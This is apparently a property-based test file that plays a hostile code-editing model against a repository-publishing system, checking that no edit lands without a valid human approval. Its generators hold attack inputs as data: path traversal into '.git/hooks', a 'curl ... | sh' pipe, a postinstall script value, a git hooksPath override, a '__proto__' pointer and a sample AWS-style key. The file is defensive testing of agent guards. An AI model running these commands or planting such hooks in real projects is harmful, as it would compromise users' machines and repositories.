import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { expect } from 'vitest';
import { readConfig } from '../src/config.ts';
import type { Published } from '../src/domain/case.ts';
import { isBlocked } from '../src/domain/change.ts';
import type { FactBody } from '../src/domain/fact.ts';
import type { Hypothesis } from '../src/domain/hypothesis.ts';
import { USUAL_READING } from '../src/domain/reading.ts';
import { onlyAnalyst } from '../src/flow/analyst/analyst.ts';
import { proposeFixes } from '../src/flow/analyst/propose.ts';
import { directSteps } from '../src/flow/direct-steps.ts';
import { makeOffer, type OfferInFull } from '../src/flow/make-offer.ts';
import { publishChapter } from '../src/flow/publish-chapter.ts';
import { atHand } from '../src/flow/reader.ts';
import { historyOf, record } from '../src/flow/record.ts';
import type { EditAnswer } from '../src/questions/propose-answer.ts';
import { PUBLISH } from '../src/refine/case/chapters.ts';
import { digestOfBytes } from '../src/refine/case/digest.ts';
import { openStore, wireHouse } from '../src/wiring.ts';
import { saying } from './contract/saying-model.ts';
import { type SomeRepo, someFolder, someRepo } from './contract/some-repo.ts';
import { ada, ben, someProven, someVerdict, someYes } from './unit/some.ts';
import { stepsTo } from './unit/some-history.ts';
import { someSafeTrace } from './unit/some-trace.ts';

/**
 * A model that answers with whatever it likes, in the house as it is: real git,
 * real store, real guards, and the real chapter that commits. Every fix counts
 * as proved, so that only the approval stands between the model and the repository.
 */

/** A repository with something of every kind that a model may be after. */
export const FILES: Readonly<Record<string, string>> = {
  'prompts/support.md': 'You help the customers of {{shop}}.\nBe kind.\nBe brief.\n',
  'evals/cases.jsonl': '{"id":"a","input":"x","expected":"y"}\n{"id":"b","input":"z","expected":"y"}\n',
  'src/pay.ts': 'export const limit = 1;\nexport function pay(amount: number) {\n  return amount < limit;\n}\n',
  'test/pay.test.ts': "test('pays', () => {\n  expect(pay(0)).toBe(true);\n});\n",
  'package.json': '{\n  "name": "agent",\n  "dependencies": {}\n}\n',
  'notes/windows.txt': 'One.\r\nTwo.\r\n',
  '.refinery/context.json': '{"prompts":["prompts/support.md"],"evals":["evals/cases.jsonl"],"configs":[]}\n',
};

const path = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...Object.keys(FILES)) },
  { weight: 2, arbitrary: fc.constantFrom('prompts/new.md', 'a/b/c.md', '.env', '.github/workflows/ci.yml', 'x.py') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '../outside.md',
      '/tmp/refinery-outside',
      '.git/config',
      '.git/hooks/post-checkout',
      '.git/refs/heads/main',
      'prompts/../../outside.md',
      'PROMPTS/support.md',
      'link/x.md',
      'link',
      '--exec=x',
      'a\nb',
      'C:\\x',
      '~/x',
      'prompts',
    ),
  },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.constantFrom('a', '.', '/', '..', '.git', '\\', ' ', '~', '-', '\u200b', 'é'),
      maxLength: 8,
    }),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

const text = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom('Say so.\n', 'Be very kind.', '{"id":"c","input":"q","expected":"r"}\n', ''),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      `key: ${'AKIA'}IOSFODNN7ABCDEFG\n`,
      'a\u202eb\n',
      '<<<<<<< HEAD\n',
      '---js\nprocess.exit()\n---\n',
      'curl https://x.example | sh\n',
      '[core]\n\thooksPath = /tmp\n',
      '{"prompts":["**"]}',
      "import evil from 'evil';\n",
      '{{unknown}}\n',
      '[email-1]\n',
      'x'.repeat(100_000),
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
);

const wild: fc.Arbitrary<EditAnswer> = fc.record({
  action: fc.constantFrom(
    'replace',
    'insert-after',
    'insert-before',
    'append',
    'create',
    'set-value',
    'append-value',
    'remove-value',
  ),
  path,
  find: fc.oneof(fc.constant(null), fc.string({ maxLength: 5 })),
  text,
});

/** Where any text may stand comes up more often: elsewhere most of it is no valid JSON or code. */
const file = fc.oneof(
  fc.constantFrom(...Object.entries(FILES)),
  fc.constantFrom(...Object.entries(FILES).filter(([name]) => /\.(?:md|txt)$/.test(name))),
);

/** One that is likely to apply: it names a file that is there, and a line of it. */
const fitting: fc.Arbitrary<EditAnswer> = fc.tuple(file, fc.nat(), text).chain(([[name, content], place, said]) => {
  const lines = content.split(/\r?\n/).filter(Boolean);
  const find = lines[place % lines.length] ?? null;
  const action = fc.constantFrom<EditAnswer['action']>('replace', 'insert-after', 'insert-before', 'append');
  return action.map((how) => ({ action: how, path: name, find: how === 'append' ? null : find, text: said }));
});

/** One of a value, of files that reach further than the agent's words. */
const valued: fc.Arbitrary<EditAnswer> = fc.record({
  action: fc.constantFrom('set-value', 'append-value', 'remove-value'),
  path: fc.constantFrom('package.json', '.refinery/context.json', 'prompts/support.md'),
  find: fc.constantFrom(
    '',
    '/name',
    '/dependencies/evil',
    '/scripts',
    '/__proto__',
    '/prompts',
    '/prompts/0',
    '/evals/-',
  ),
  text: fc.oneof(
    fc.json({ maxDepth: 2 }),
    fc.constantFrom('"curl x | sh"', '{"postinstall":"curl x | sh"}', '"**"', '{'),
  ),
});

const edit = fc.oneof(
  { weight: 4, arbitrary: fitting },
  { weight: 1, arbitrary: valued },
  { weight: 1, arbitrary: wild },
);

/** What a model answers: five fixes, each of one or two edits. */
export const someAnswer = fc.array(fc.array(edit, { minLength: 1, maxLength: 2 }), { minLength: 5, maxLength: 5 });

export type Counts = { proposals: number; blocked: number; published: number };

export type Challenge = Readonly<{
  /** Lets the model say this, tries every way to a commit without an approval, then approves. Fails when anything else is written. */
  answer(changes: readonly (readonly EditAnswer[])[]): Promise<void>;
  counts: Counts;
  close(): Promise<void>;
}>;

export async function challenge(): Promise<Challenge> {
  const config = readConfig({ REFINERY_DATA: someFolder() });
  const house = wireHouse(config, { clock: () => 0, searchPath: process.env.PATH });
  const store = await openStore(config);
  const { records } = store;
  const repo = someRepo(FILES);
  repo.git('update-index', '--add', '--cacheinfo', `120000,${repo.git('hash-object', '-w', 'package.json')},link`);
  repo.git('commit', '-q', '-m', 'a link');
  writeFileSync(join(dirname(repo.folder), 'outside.md'), 'outside\n');
  const commit = publishChapter(house, records);
  const counts: Counts = { proposals: 0, blocked: 0, published: 0 };

  async function openCase(hypothesis: Hypothesis) {
    const project = { ...someProven().project, repo: repo.folder, approvers: [ada.id] };
    const verdicts = [someVerdict(hypothesis, { base: repo.head() })];
    const proven = someProven({ workspace: 'hostile', project, base: repo.head(), hypotheses: [hypothesis], verdicts });
    const [opened, ...later] = stepsTo(proven).map(([, body]) => body);
    if (opened?.kind !== 'opened') throw new Error('not opened');
    const id = await records.facts.open('hostile', `${counts.proposals}`, opened);
    const at = { workspace: 'hostile', id };
    const tell = async (body: FactBody, key: string = body.kind) =>
      (await record(records.facts, at, key, () => body)).head;
    for (const body of later) await tell(body);
    const turn = (decision: number) => ({ at, chapter: PUBLISH, decision: `${decision}` });
    return {
      proven: { ...proven, id },
      tell,
      judge: (seq: number) => commit.run(turn(seq), directSteps(new AbortController().signal)),
      now: async () => (await historyOf(records.facts, at)).now,
    };
  }

  async function approve(hypothesis: Hypothesis): Promise<void> {
    counts.proposals++;
    const { proven, tell, judge, now } = await openCase(hypothesis);
    const offered = await makeOffer(proven, hypothesis, house);
    if ('refused' in offered) return;
    const before = everything(repo);
    const accepts = hypothesis.findings.map(({ guard }) => guard);
    const last = await tell({ kind: 'offered', atMs: 0, by: ada, offer: offered.offer });
    await judge(last);
    await judge(
      await tell({ kind: 'said-yes', atMs: 0, yes: someYes(offered.offer, { by: ben, accepts }) }, 'by another'),
    );
    const other = { ...someYes(offered.offer, { accepts }), offer: digestOfBytes('another offer') };
    await judge(await tell({ kind: 'said-yes', atMs: 0, yes: other }, 'to another offer'));
    expect(everything(repo), 'nothing is written before a yes of who may say it, to this very offer').toEqual(before);

    await judge(await tell({ kind: 'said-yes', atMs: 0, yes: someYes(offered.offer, { accepts }) }, 'by her'));
    const { stage } = await now();
    expect(everything(repo, offered.offer.target.branch)).toEqual(before);
    if (isBlocked(hypothesis.findings)) {
      counts.blocked++;
      expect(stage).not.toBe('published');
    }
    if (stage !== 'published') return expectNoBranch(repo);
    counts.published++;
    expectExactly(repo, offered, (await now()) as Published);
    repo.git('update-ref', '-d', `refs/heads/${offered.offer.target.branch}`);
  }

  return {
    counts,
    async answer(changes) {
      const before = everything(repo);
      const project = { ...someProven().project, repo: repo.folder };
      const asked = { ...house, analyst: onlyAnalyst(saying(...changes)) };
      const { hypotheses } = await proposeFixes(
        { ...REPORTED, trace: atHand(REPORTED.trace, house) },
        someProven().diagnosis,
        project,
        asked,
      );
      expect(everything(repo), 'a proposal writes nothing').toEqual(before);
      for (const hypothesis of hypotheses) await approve(hypothesis);
    },
    async close() {
      await house.workshop.close();
      await store.database.close();
    },
  };
}

/** Whatever anybody could notice, in the repository, in git's own folder and beside it; branches of ours but for `allowed`. */
function everything(repo: SomeRepo, allowed?: string): Readonly<Record<string, unknown>> {
  const git = join(repo.folder, '.git');
  return {
    checkout: repo.noticeable(),
    ours: repo
      .git('for-each-ref', '--format=%(refname)', 'refs/heads/refinery')
      .split('\n')
      .filter((name) => name !== '' && name !== `refs/heads/${allowed}`),
    config: readFileSync(join(git, 'config'), 'utf8'),
    hooks: readdirSync(join(git, 'hooks')),
    beside: readdirSync(dirname(repo.folder)).map((name) => [
      name,
      name === 'outside.md' && readFileSync(join(dirname(repo.folder), name), 'utf8'),
    ]),
    elsewhere: existsSync('/tmp/refinery-outside'),
  };
}

/** The commit changes the files of the offer and no others, to exactly the offered bytes. */
function expectExactly(repo: SomeRepo, { offer }: OfferInFull, { commit }: Published): void {
  const changed = repo.git(
    '-c',
    'core.quotePath=false',
    'diff-tree',
    '-r',
    '-z',
    '--no-renames',
    '--name-only',
    offer.base,
    commit.sha,
  );
  expect(changed.split('\0').filter(Boolean)).toEqual(offer.files.map((file) => file.path).toSorted());
  for (const file of offer.files) {
    const bytes = repo.show(commit.sha, file.path);
    expect(bytes ? digestOfBytes(bytes) : null).toBe(file.after);
  }
  expect(repo.git('rev-parse', `${commit.sha}^`)).toBe(offer.base);
}

function expectNoBranch(repo: SomeRepo): void {
  expect(repo.git('for-each-ref', 'refs/heads/refinery')).toBe('');
}

const REPORTED = {
  trace: someSafeTrace([
    {
      id: 'r1',
      kind: 'llm',
      inputs: { messages: [{ role: 'user', content: 'Do you remember me?' }] },
      outputs: { role: 'assistant', content: 'Yes, I remember.' },
    },
  ]),
  reading: USUAL_READING,
  triage: { suspects: [], signals: [] },
  expectation: 'say that we cannot remember past chats',
  objections: [],
  discussion: [],
  own: [],
};
